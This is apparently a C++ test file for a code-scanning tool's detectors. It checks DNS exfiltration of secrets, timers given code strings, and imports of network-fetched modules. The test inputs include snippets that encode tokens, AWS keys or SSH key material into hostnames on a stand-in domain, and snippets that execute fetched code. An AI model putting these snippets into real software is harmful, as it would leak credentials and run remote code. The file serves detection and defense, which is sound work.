// Secrets leaked through DNS names, strings run by timers, and modules imported from the network:
// shapes beyond the packs' own examples, each with the near miss that must stay quiet.
#include <catch2/catch.hpp>

#include "analysis/code/detector_loader.h"
#include "test_support.h"

using toolwall::code::test::check_detector;

namespace {
constexpr const char* kDns = "code.exfil.secret-to-dns";
constexpr const char* kStringTimer = "code.exec.string-timer";
constexpr const char* kFetchedTimer = "code.exec.fetched-string-timer";
constexpr const char* kRemoteImport = "code.exec.remote-import";
constexpr const char* kFetchedImport = "code.exec.fetched-import";
}  // namespace

TEST_CASE("a secret put into a hostname that is resolved or connected to is DNS exfiltration") {
  check_detector("probe.py",
                 "import socket, os\nt = os.environ['NPM_TOKEN']\nsocket.gethostbyname(f'{t}.x.example')\n",
                 kDns, true);
  check_detector("probe.py",
                 "import dns.resolver, os\nr = dns.resolver.Resolver()\n"
                 "r.resolve('%s.x.example' % os.getenv('OPENAI_API_KEY'), 'A')\n",
                 kDns, true);
  check_detector("probe.py",
                 "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                 "s.connect((os.environ['API_TOKEN'] + '.x.example', 80))\n",
                 kDns, true);
  check_detector(
      "probe.py",
      "def leak():\n    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()[:30].encode().hex()\n"
      "    socket.getaddrinfo(key + '.x.example', 53)\n",
      kDns, true);
  check_detector(
      "probe.js",
      "const { lookup } = require('dns');\nlookup(`${process.env.GITHUB_TOKEN}.x.example`, () => {});\n",
      kDns, true);
  check_detector("probe.ts",
                 "import dns from 'node:dns/promises';\nconst token = process.env.NPM_TOKEN!;\n"
                 "await dns.resolveTxt(token + '.x.example');\n",
                 kDns, true);
  check_detector("probe.js",
                 "net.createConnection({ host: `${process.env.GH_TOKEN}.x.example`, port: 80 });\n", kDns,
                 true);
  check_detector(
      "probe.go",
      "package main\nfunc main() {\n\tkey := os.Getenv(\"AWS_SECRET_ACCESS_KEY\")\n\tnet.LookupTXT(key + "
      "\".x.example\")\n}\n",
      kDns, true);
  check_detector(
      "probe.go",
      "package main\nfunc main() { c, _ := net.Dial(\"udp\", os.Getenv(\"GITHUB_TOKEN\")+\".x.example:53\"); "
      "_ = c }\n",
      kDns, true);
}

TEST_CASE("a request to a URL whose host name is built from a secret leaks it to that domain's DNS") {
  check_detector("sync.py",
                 "def f(token):\n    urllib.request.urlopen('https://' + token + '.x.example/p')\n", kDns,
                 true);
  check_detector("sync.js", "await fetch(`https://${process.env.NPM_TOKEN}.x.example/p`);\n", kDns, true);
  check_detector(
      "sync.go",
      "package x\nfunc f() { http.Get(\"https://\" + os.Getenv(\"NPM_TOKEN\") + \".x.example/\") }\n", kDns,
      true);
  // a secret in the path or query is not in a DNS name (other detectors judge the request itself)
  check_detector("sync.py", "requests.get(f\"https://api.example.com/{os.environ['API_TOKEN']}\")\n", kDns,
                 false);
  check_detector("sync.js", "await fetch(`https://${region}.api.example.com/${process.env.API_TOKEN}`);\n",
                 kDns, false);
  check_detector(
      "sync.go",
      "package x\nfunc f() { http.Get(\"https://\" + os.Getenv(\"API_HOST\") + \"/v1?t=\" + token) }\n", kDns,
      false);
}

TEST_CASE("resolving constant hosts, configured hosts and health checks is not DNS exfiltration") {
  check_detector("net.py",
                 "print(socket.gethostbyname(socket.gethostname()))\nsocket.getaddrinfo('localhost', 8080)\n",
                 kDns, false);
  check_detector("db.py", "socket.create_connection((os.environ['DB_HOST'], 5432), timeout=3)\n", kDns,
                 false);
  check_detector("net.js", "const { lookup } = require('dns');\nlookup(process.env.DB_HOST, () => {});\n",
                 kDns, false);
  check_detector("net.js", "const secretsHost = 'secrets.internal.example';\ndns.lookup(secretsHost, cb);\n",
                 kDns, false);
  check_detector(
      "net.ts",
      "const sock = tls.connect({ host: cfg.host, port: 443, key: process.env.TLS_PRIVATE_KEY });\n", kDns,
      false);
  check_detector(
      "health.go",
      "package main\nfunc main() { a, _ := net.LookupHost(os.Getenv(\"DB_HOST\")); fmt.Println(a); "
      "net.Dial(\"tcp\", cfg.Addr) }\n",
      kDns, false);
}

TEST_CASE("a timer given a string runs it as code; a timer given a function does not") {
  check_detector("ui.js", "setTimeout(\"alert(1)\", 10);\n", kStringTimer, true);
  check_detector("ui.js", "const fn = 'go()';\nsetTimeout(fn, 10);\n", kStringTimer, true);
  check_detector("ui.js", "const TICK = 'poll()';\nfunction start() { setInterval(TICK, 1000); }\n",
                 kStringTimer, true);
  check_detector("ui.ts", "window.setTimeout('refresh(' + id + ')', 500);\n", kStringTimer, true);
  check_detector("ui.js",
                 "function poll() { return 1; }\nsetInterval(poll, 1000);\n"
                 "const handler = this.onTick.bind(this);\nsetInterval(handler, 5);\n"
                 "await new Promise((r) => setTimeout(r, 100));\n",
                 kStringTimer, false);
  check_detector("ui.js", "const mk = makePoller(url);\nconst url = '/api';\nsetInterval(mk, 1000);\n",
                 kStringTimer, false);
}

TEST_CASE("a timer given text fetched from the network runs the server's code") {
  check_detector("boot.js", "const code = xhr.responseText;\nsetTimeout(code, 0);\n", kFetchedTimer, true);
  check_detector("boot.js", "const r = await fetch(u);\nsetTimeout(await r.text(), 0);\n", kFetchedTimer,
                 true);
  check_detector("boot.js", "fetch(u).then(r => r.text()).then(src => setInterval(src, 1000));\n",
                 kFetchedTimer, true);
  check_detector("boot.js",
                 "const r = await fetch(u);\nconst data = await r.json();\nsetTimeout(() => show(data), 0);\n"
                 "const next = r.ok ? onOk : onFail;\nsetTimeout(next, 0);\n",
                 kFetchedTimer, false);
  check_detector("boot.ts",
                 "const poll = async () => { const r = await fetch('/api/s'); render(await r.text()); };\n"
                 "setInterval(poll, 5000);\n",
                 kFetchedTimer, false);
}

TEST_CASE("importing a module from a remote URL is flagged; from fetched data it is blocked") {
  check_detector("app.js", "const { render } = await import('https://cdn.x.example/m.js');\n", kRemoteImport,
                 true);
  check_detector("app.js", "const m = await import(`https://esm.sh/${pkg}`);\n", kRemoteImport, true);
  check_detector("app.js",
                 "const page = await import(`./pages/${name}.js`);\nconst l = await import('lodash');\n",
                 kRemoteImport, false);
  check_detector(
      "app.js",
      "async function plug() {\n  const { url } = await (await fetch('https://x.example.com/p')).json();\n"
      "  return import(url);\n}\n",
      kFetchedImport, true);
  check_detector("app.js",
                 "const m = await import('data:text/javascript,' + encodeURIComponent(await (await "
                 "fetch(u)).text()));\n",
                 kFetchedImport, true);
  check_detector(
      "plug.py",
      "import importlib, requests\nmod = importlib.import_module(requests.get(u).json()['module'])\n",
      kFetchedImport, true);
  check_detector("app.js",
                 "const lang = (await (await fetch(API + '/me')).json()).lang;\n"
                 "const messages = await import(`./locales/${lang}.js`);\n",
                 kFetchedImport, false);
  check_detector("plug.py",
                 "data = requests.get(URL).json()\nmod = importlib.import_module(settings.BACKEND)\n",
                 kFetchedImport, false);
}

TEST_CASE("a module object filled by exec of fetched source is already fetched code, not a new detector's") {
  const char* code =
      "import types, requests\nsrc = requests.get('https://x.example.com/m.py').text\n"
      "mod = types.ModuleType('m')\nexec(src, mod.__dict__)\n";
  check_detector("load.py", code, "code.exec.fetched-code", true);
  check_detector("load.py", code, kFetchedImport, false);
}

TEST_CASE(
    "assigned_matches follows one assignment; assigned_not_matches rules out names bound to functions") {
  const char* pack = R"yaml(detectors:
  - id: code.test.string-arg
    description: a call given a string, directly or by a name assigned one
    languages: [javascript]
    severity: low
    message: "string"
    query: |
      (call_expression function: (identifier) @fn (#eq? @fn "run") arguments: (arguments . (_) @arg)) @match
    where:
      - capture: arg
        assigned_matches: '^\s*[''"]'
      - capture: arg
        assigned_not_matches: '=>'
    examples:
      match: ["const s = 'x';\nrun(s);"]
      no_match: ["const f = makeF(p);\nconst p = 'x';\nrun(f);", "const g = () => 'x';\nrun(g);"]
)yaml";
  auto loaded = toolwall::code::load_detectors_from_text(pack, "inline.yaml");
  INFO((loaded ? std::string() : toolwall::to_string(loaded.error())));
  CHECK(loaded.has_value());
}
